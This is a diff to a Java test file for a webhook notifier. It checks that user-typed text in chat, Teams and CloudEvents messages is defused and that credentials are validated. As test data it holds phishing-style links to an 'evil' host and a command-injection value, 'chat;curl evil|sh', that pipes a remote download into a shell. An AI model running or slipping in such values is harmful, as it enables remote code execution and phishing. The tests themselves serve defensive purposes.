@@ -1,6 +1,7 @@
 package io.fleetcanary.activity.notification;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 
 import com.fasterxml.jackson.databind.JsonNode;
@@ -31,6 +32,7 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class WebhooksTest {
@@ -100,7 +102,7 @@ class WebhooksTest {
         .isEqualTo(
             """
             *inference/chat 2026.11.3: rolledback*
-            rejected by eve: &lt;!channel&gt; &amp; &lt;@U1&gt;
+            rejected by eve: &lt;\u2060!channel&gt; &amp; &lt;\u2060@\u2060U1&gt;
             `fleetcanary status inference/chat`
             https://ui.example/namespaces/prod/workflows/rollout%2Finference%2Fchat/0b5d3c1e-run""");
   }
@@ -114,13 +116,53 @@ class WebhooksTest {
             "**inference/chat 2026.11.3: rolledback**\nrejected by eve: @\u2060channel; look");
   }
 
+  @ParameterizedTest
+  @CsvSource({
+    "[approve](https://evil), [approve]\u2060(https:\u2060//evil)",
+    "\\[x](http://evil), \\[x]\u2060(http:\u2060//evil)",
+    "<https://evil|Approve>, <\u2060https:\u2060//evil|Approve>",
+    "<users/all>, <\u2060users/all>",
+    "errors 1 % < 2 %, errors 1 % < 2 %"
+  })
+  void makesNoLinkOfWhatSomebodyTyped(String typed, String shown) throws IOException {
+    tell(target(Way.CHAT, Login.NONE), Samples.ended(typed));
+    tell(target(Way.TEAMS, Login.NONE), Samples.ended(typed));
+
+    assertThat(text(receiver.got().getFirst())).contains("\n" + shown + "\n");
+    assertThat(
+            JSON.readTree(receiver.got().getLast().body())
+                .at("/attachments/0/content/body/1/text")
+                .asText())
+        .isEqualTo(shown);
+  }
+
+  @Test
+  void offersNoCommandOfAStrangeNameAndTellsAllTheSame() throws IOException {
+    tell(target(Way.CLOUDEVENTS, Login.NONE), Samples.strange("chat;curl evil|sh"));
+
+    JsonNode event = JSON.readTree(receiver.got().getFirst().body());
+    assertThat(event.at("/data/commands")).isEmpty();
+    assertThat(event.path("source").asText()).isEqualTo("rollout/inference/chat;curl%20evil%7Csh");
+  }
+
+  @Test
+  void takesASecretFromAFileWithItsLineEndAndShowsNoneThatItCannotUse() {
+    tell(target(Way.CLOUDEVENTS, new Login("t0ken\n", "s3cret\n", "", "")), Samples.QUESTION);
+
+    assertThat(receiver.got().getFirst().headers()).containsEntry("Authorization", "Bearer t0ken");
+    assertThatThrownBy(() -> new Login("t0\nken", "", "", ""))
+        .hasMessage("token must be of printed ASCII characters");
+    assertThatThrownBy(() -> new Login("", "whsec_???", "", ""))
+        .hasMessage("secret must be Base64 behind whsec_");
+  }
+
   @Test
   void sendsTeamsACard() throws IOException {
     tell(target(Way.TEAMS, Login.NONE), Samples.ended("[click](http://evil)"));
 
     JsonNode card = JSON.readTree(receiver.got().getFirst().body()).at("/attachments/0/content");
     assertThat(card.path("type").asText()).isEqualTo("AdaptiveCard");
-    assertThat(card.at("/body/1/text").asText()).isEqualTo("\\[click](http://evil)");
+    assertThat(card.at("/body/1/text").asText()).isEqualTo("[click]\u2060(http:\u2060//evil)");
     assertThat(card.at("/actions/0/url").asText()).startsWith("https://ui.example/");
   }
 
